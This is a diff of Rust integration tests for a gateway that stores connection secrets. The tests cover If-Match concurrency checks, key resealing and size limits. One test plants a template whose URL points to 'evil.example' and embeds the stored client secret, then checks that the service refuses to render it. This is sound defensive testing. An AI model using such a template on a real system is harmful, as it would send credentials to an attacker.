@@ -5,7 +5,7 @@ use std::sync::Arc;
 use aws_lc_rs::hmac;
 use base64::Engine as _;
 use base64::engine::general_purpose::URL_SAFE_NO_PAD;
-use narthex_directory::{Directory, DocumentKind};
+use narthex_directory::{Directory, DocumentAt, DocumentKind, NewDocument};
 use narthex_gateway::outbound::Policy;
 use narthex_gateway::{ConnectionSettings, Guard, Loopback, SealingKey, SealingKeys};
 use serde_json::{Value, json};
@@ -207,6 +207,7 @@ async fn parameters_are_merged_and_the_same_document_keeps_them() {
     let (api, id) = world().await;
     let path = format!("/connections/{id}");
     let change = json!({"document": DOCUMENT, "parameters": {"clientSecret": "another-secret", "unused": 1}});
+    // With the document that they are for, secrets need no `If-Match`: nobody can put another one there.
     let now = api.call("PATCH", &path, Some(change)).await.expect(200);
     assert_eq!(
         now["parameters"][2],
@@ -260,8 +261,10 @@ async fn the_key_is_changed_by_way_of_two() {
     let both = seal_with(&api, 100, Some(1));
     api.call("POST", &use_it, None).await.expect(200);
     let by = api.by();
-    assert_eq!(narthex_gateway::reseal(&*api.directory, &both, &by).await.unwrap(), 1);
-    assert_eq!(narthex_gateway::reseal(&*api.directory, &both, &by).await.unwrap(), 0);
+    let again = narthex_gateway::reseal(&*api.directory, &both, &by).await.unwrap();
+    assert_eq!((again.sealed_again, again.failed.len()), (1, 0));
+    let again = narthex_gateway::reseal(&*api.directory, &both, &by).await.unwrap();
+    assert_eq!((again.sealed_again, again.failed.len()), (0, 0));
     seal_with(&api, 100, None);
     let rendered = api.call("POST", &use_it, None).await.expect(200);
     verified(&rendered, SECRET);
@@ -280,6 +283,7 @@ async fn the_key_is_changed_by_way_of_two() {
 async fn a_failing_template_says_where_and_no_secret() {
     let (api, id) = world().await;
     let path = format!("/connections/{id}");
+    // Taking away needs no `If-Match`.
     api.call("PATCH", &path, Some(json!({"parameters": {"clientSecret": null}})))
         .await
         .expect(200);
@@ -428,4 +432,120 @@ async fn sec_connection_ssrf() {
     });
     let message = refused(api.call("POST", &format!("{path}/test"), None).await.expect(200));
     assert!(message.contains("loopback"), "{message}");
+}
+
+#[tokio::test]
+async fn sec_connection_secrets_are_given_to_a_document_that_was_read() {
+    let (api, id) = world().await;
+    let path = format!("/connections/{id}");
+    let change = Some(json!({"parameters": {"clientSecret": "new-secret"}}));
+    let detail = api
+        .call("PATCH", &path, change.clone())
+        .await
+        .problem(428, "resource.unconditional");
+    assert!(detail.contains("If-Match"), "{detail}");
+    let etag = api.call("GET", &path, None).await.header("etag").to_owned();
+    let seen = [("if-match", etag.as_str())];
+    api.call_with("PATCH", &path, change.clone(), &seen).await.expect(200);
+    // Somebody was faster.
+    api.call_with("PATCH", &path, change, &seen)
+        .await
+        .problem(412, "resource.changed");
+}
+
+/// Whoever may write to the database cannot have a document of their own shown the secrets of another.
+#[tokio::test]
+async fn sec_connection_secrets_open_for_their_document_only() {
+    let (api, id) = world().await;
+    let kept = api
+        .directory
+        .document(DocumentKind::Connection, id.clone())
+        .await
+        .unwrap()
+        .unwrap();
+    let mut body = kept.body.clone();
+    let thief = r#"{"url": "https://evil.example/{{parameters.clientSecret}}"}"#;
+    body.insert("document".to_owned(), thief.into());
+    let new = NewDocument {
+        kind: kept.kind,
+        name: kept.name,
+        organization: kept.organization,
+        body,
+        secret: kept.secret,
+    };
+    api.directory
+        .save_document(new, DocumentAt::Any, api.by())
+        .await
+        .unwrap();
+    let reply = api.call("POST", &format!("/connections/{id}/headers"), None).await;
+    reply.problem(409, "connection.secrets");
+    assert!(!reply.text().contains(SECRET));
+    // One that does not open holds up no other when the key is changed, and is named.
+    let body = json!({
+        "organization": "acme", "name": "y", "document": {"url": "https://a.example"}, "parameters": {"a": "b"},
+    });
+    api.post("/connections", body).await;
+    let both = seal_with(&api, 100, Some(1));
+    let done = narthex_gateway::reseal(&*api.directory, &both, &api.by())
+        .await
+        .unwrap();
+    assert_eq!(done.sealed_again, 1);
+    assert_eq!(done.failed[0].0, id);
+}
+
+#[tokio::test]
+async fn a_suspended_organizations_connections_rest() {
+    let (api, id) = world().await;
+    api.call("PATCH", "/organizations/acme", Some(json!({"status": "suspended"})))
+        .await
+        .expect(200);
+    let path = format!("/connections/{id}/headers");
+    api.call("POST", &path, None)
+        .await
+        .problem(403, "organization.suspended");
+}
+
+/// What one test learns is not lost to another that runs beside it.
+#[tokio::test]
+async fn tests_beside_each_other_all_keep_what_they_learned() {
+    let (api, _) = world().await;
+    allow_loopback(&api);
+    let at = service(200, json!({"id": 7})).await;
+    let document = json!({
+        "url": format!("http://{at}/{{{{parameters.key}}}}"),
+        "response": {"uid": "{{body.id}}", "data": {"{{'k' + uuid}}": "{{uuid}}"}},
+    });
+    let path = made(&api, document).await;
+    let test = format!("{path}/test");
+    let runs = (0..4).map(|_| api.call("POST", &test, None));
+    for reply in futures_util::future::join_all(runs).await {
+        assert_eq!(reply.expect(200)["valid"], true);
+    }
+    let kept = api.get(&path).await;
+    assert_eq!(kept["data"].as_array().unwrap().len(), 4, "{kept}");
+}
+
+#[tokio::test]
+async fn more_than_is_kept_is_refused() {
+    let (api, _) = world().await;
+    let large: serde_json::Map<String, Value> = (0..5)
+        .map(|index| (format!("p{index}"), "x".repeat(60_000).into()))
+        .collect();
+    let mut path = String::new();
+    for (name, value) in large {
+        let status = if path.is_empty() {
+            let body = json!({
+                "organization": "acme", "name": "x", "document": {"url": "https://a.example"},
+                "parameters": {&name: value},
+            });
+            let made = api.post("/connections", body).await;
+            path = format!("/connections/{}", made["id"].as_str().unwrap());
+            200
+        } else {
+            let change = json!({"parameters": {&name: value}});
+            let reply = api.call_with("PATCH", &path, Some(change), &[("if-match", "*")]).await;
+            reply.status.as_u16()
+        };
+        assert_eq!(status, if name == "p4" { 409 } else { 200 }, "{name}");
+    }
 }
